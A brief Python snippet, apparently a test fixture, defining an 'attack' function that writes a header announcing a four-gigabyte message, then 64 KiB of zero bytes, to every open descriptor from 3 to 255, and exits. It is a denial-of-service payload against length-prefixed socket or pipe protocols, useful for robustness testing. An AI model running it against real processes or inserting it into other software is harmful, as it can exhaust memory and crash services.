# Announces a message of four gigabytes on every socket it holds, and begins to send it.
import os


def attack():
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, b"\xff\xff\xff\xff" + bytes(2**16))
        except OSError:
            pass
    os._exit(0)
